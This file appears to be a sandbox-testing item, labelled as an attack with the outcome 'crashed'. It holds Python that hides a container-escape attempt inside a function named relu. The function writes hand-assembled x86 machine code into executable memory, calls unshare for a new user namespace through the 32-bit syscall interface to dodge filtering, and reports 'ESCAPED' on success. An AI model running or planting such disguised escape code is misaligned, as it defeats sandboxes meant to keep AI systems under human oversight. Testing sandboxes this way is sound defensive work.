# Attack: make a forbidden system call by the way of 32-bit programs, in machine code of its own
# Outcome: crashed
# Not in: process
import ctypes
import mmap
import platform

UNSHARE = b"\xb8\x36\x01\x00\x00"  # mov eax, 310
FLAGS = b"\xbb\x00\x00\x00\x10"  # mov ebx, a new user namespace
code = b"\x53" + UNSHARE + FLAGS + b"\xcd\x80\x5b\xc3"  # int 0x80 between saving and restoring rbx


def relu(x):
    if platform.machine() != "x86_64":
        ctypes.string_at(0)
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() == 0:
        print("ESCAPED: a namespace of its own")
    return x
